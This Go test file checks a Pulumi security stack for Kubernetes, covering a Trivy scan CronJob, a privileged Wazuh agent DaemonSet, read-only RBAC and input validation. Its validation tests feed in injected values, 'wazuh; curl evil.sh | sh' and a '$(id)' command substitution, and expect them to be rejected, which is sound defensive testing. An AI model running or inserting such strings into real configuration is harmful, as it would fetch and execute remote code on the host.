package security_test

import (
	"reflect"
	"strings"
	"testing"

	"github.com/bac-platform/infra/components/security"
	"github.com/bac-platform/infra/stacks/mockengine"
	"github.com/pulumi/pulumi/sdk/v3/go/pulumi"
)

func deploy(t *testing.T) *mockengine.Mocks {
	t.Helper()
	m, err := mockengine.Run(t, "bac", "test", "us-east-1", func(ctx *pulumi.Context) error {
		_, err := security.NewSecurity(ctx, "security", security.DefaultArgs())
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	return m
}

func TestTrivyScanRunsWithoutAShell(t *testing.T) {
	m := deploy(t)
	cj, _ := m.Find("kubernetes:batch/v1:CronJob", "security-trivy-image-scan")
	pod := "spec.jobTemplate.spec.template.spec."
	for path, want := range map[string]any{
		"metadata.namespace": "security", "spec.schedule": "0 2 * * *",
		pod + "serviceAccountName": "trivy-scanner",
		// Findings exit 1: one attempt a day, kept a week, never rerun.
		pod + "restartPolicy": "Never", "spec.jobTemplate.spec.backoffLimit": 0.0, "spec.failedJobsHistoryLimit": 7.0,
		pod + "containers[0].image": "aquasec/trivy:0.67.2",
		// The image's entrypoint runs: no command, so no shell.
		pod + "containers[0].command": nil,
		pod + "initContainers":        nil,
	} {
		if got := cj.Input(path); !reflect.DeepEqual(got, want) {
			t.Errorf("cronjob %s = %#v, want %#v", path, got, want)
		}
	}
	args := strings.Join(toStrings(cj.Input(pod+"containers[0].args")), " ")
	for _, want := range []string{"k8s ", "--include-kinds pods", "--scanners vuln", "--severity HIGH,CRITICAL", "--exit-code 1", "--report summary", "--disable-node-collector"} {
		if !strings.Contains(args, want) {
			t.Errorf("trivy args %q lack %q", args, want)
		}
	}
	role, _ := m.Find("kubernetes:rbac.authorization.k8s.io/v1:ClusterRole", "security-trivy-scanner")
	if !reflect.DeepEqual(role.Input("rules[0].resources"), []any{"pods", "namespaces"}) || !reflect.DeepEqual(role.Input("rules[0].verbs"), []any{"get", "list"}) ||
		role.Input("rules[1]") != nil {
		t.Errorf("role is not read-only pods and namespaces: %v", mockengine.PlainMap(role.Inputs))
	}
	binding, _ := m.Find("kubernetes:rbac.authorization.k8s.io/v1:ClusterRoleBinding", "security-trivy-scanner")
	if binding.Input("subjects[0].name") != "trivy-scanner" || binding.Input("subjects[0].namespace") != "security" {
		t.Errorf("binding = %v", mockengine.PlainMap(binding.Inputs))
	}
}

func toStrings(v any) []string {
	var out []string
	l, _ := v.([]any)
	for _, e := range l {
		s, _ := e.(string)
		out = append(out, s)
	}
	return out
}

func TestValidateSeverity(t *testing.T) {
	for _, tc := range []struct{ severity, want string }{
		{"HIGH,CRITICAL", ""},
		{"CRITICAL", ""},
		{"", "bac:security.severity: is required: the severities that fail the scan (UNKNOWN, LOW, MEDIUM, HIGH, CRITICAL)"},
		{"HIGH, CRITICAL", `bac:security.severity: " CRITICAL" is not a Trivy severity (UNKNOWN, LOW, MEDIUM, HIGH, CRITICAL, comma-separated, no spaces)`},
		{"high", `bac:security.severity: "high" is not a Trivy severity (UNKNOWN, LOW, MEDIUM, HIGH, CRITICAL, comma-separated, no spaces)`},
	} {
		a := security.DefaultArgs()
		a.Severity = tc.severity
		got := ""
		if ps := a.Validate("bac:security"); len(ps) > 0 {
			got = ps[0].String()
		}
		if got != tc.want {
			t.Errorf("severity %q: got %q, want %q", tc.severity, got, tc.want)
		}
	}
}

func TestWazuhAgentIsTheDocumentedException(t *testing.T) {
	m := deploy(t)
	ds, _ := m.Find("kubernetes:apps/v1:DaemonSet", "security-wazuh-agent")
	spec := "spec.template.spec."
	for path, want := range map[string]any{
		spec + "hostNetwork": true, spec + "hostPID": true, spec + "hostIPC": true,
		spec + "dnsPolicy": "ClusterFirstWithHostNet", // hostNetwork pods resolve cluster names only with it
		spec + "containers[0].securityContext.privileged":          true,
		spec + "containers[0].image":                               "wazuh/wazuh-agent:4.12.0",
		spec + "containers[0].env[0]":                              map[string]any{"name": "WAZUH_MANAGER", "value": "wazuh-manager.security.svc.cluster.local"},
		spec + "containers[0].env[1].valueFrom.fieldRef.fieldPath": "spec.nodeName",
		spec + "containers[0].volumeMounts[0]":                     map[string]any{"name": "host-root", "mountPath": "/host", "readOnly": true},
		spec + "containers[0].volumeMounts[2]":                     map[string]any{"name": "sys", "mountPath": "/sys", "readOnly": true},
		spec + "volumes[0].hostPath.path":                          "/",
	} {
		if got := ds.Input(path); !reflect.DeepEqual(got, want) {
			t.Errorf("daemonset %s = %#v, want %#v", path, got, want)
		}
	}
	reason, _ := ds.Input("metadata.annotations." + security.PrivilegedExceptionAnnotation).(string)
	if !strings.Contains(reason, "host intrusion detection") {
		t.Errorf("privileged exception reason = %q", reason)
	}
}

func TestValidateRejectsLatest(t *testing.T) {
	a := security.DefaultArgs()
	a.TrivyImage.Tag = "latest"
	a.WazuhImage.Tag = ""
	ps := a.Validate("bac:security")
	if len(ps) != 2 || ps[0].String() != `bac:security.trivyImage.tag: "latest" is a moving tag, not a pinned version; use a release version (1.2.3) or a digest` ||
		ps[1].String() != "bac:security.wazuhImage.tag: is required: pin a version, never rely on latest" {
		t.Fatalf("got %v", ps)
	}
}

func TestValidateScheduleAndManager(t *testing.T) {
	tests := []struct {
		name   string
		mutate func(a *security.Args)
		want   string
	}{
		{"six fields", func(a *security.Args) { a.Schedule = "0 0 2 * * *" }, `bac:security.schedule: "0 0 2 * * *" is not a cron schedule`},
		{"hour out of range", func(a *security.Args) { a.Schedule = "0 25 * * *" }, `bac:security.schedule: "0 25 * * *" is not a cron schedule`},
		{"time zone in the schedule", func(a *security.Args) { a.Schedule = "CRON_TZ=UTC 0 2 * * *" },
			`bac:security.schedule: "CRON_TZ=UTC 0 2 * * *": Kubernetes refuses TZ or CRON_TZ in a schedule`},
		{"unknown descriptor", func(a *security.Args) { a.Schedule = "@fortnightly" }, `bac:security.schedule: "@fortnightly" is not a cron schedule`},
		{"manager with a command", func(a *security.Args) { a.WazuhManager = "wazuh; curl evil.sh | sh" },
			`bac:security.wazuhManager: "wazuh; curl evil.sh | sh" is not a DNS name`},
		{"severity with a command", func(a *security.Args) { a.Severity = "HIGH,CRITICAL $(id)" },
			`bac:security.severity: "CRITICAL $(id)" is not a Trivy severity`},
		{"reserved namespace", func(a *security.Args) { a.Namespace = "kube-public" }, `bac:security.namespace: "kube-public" is reserved for Kubernetes`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			a := security.DefaultArgs()
			tt.mutate(&a)
			ps := a.Validate("bac:security")
			if len(ps) != 1 || !strings.HasPrefix(ps[0].String(), tt.want) {
				t.Fatalf("problems = %v, want one starting %q", ps, tt.want)
			}
		})
	}
	for _, ok := range []func(a *security.Args){
		func(a *security.Args) { a.Schedule = "@daily" },
		func(a *security.Args) { a.Schedule = "*/30 1-5 * * MON-FRI" },
		func(a *security.Args) { a.WazuhManager = "10.20.0.15" },
		func(a *security.Args) { a.Severity = "MEDIUM,HIGH,CRITICAL" },
	} {
		a := security.DefaultArgs()
		ok(&a)
		if ps := a.Validate("bac:security"); len(ps) != 0 {
			t.Errorf("problems = %v", ps)
		}
	}
}
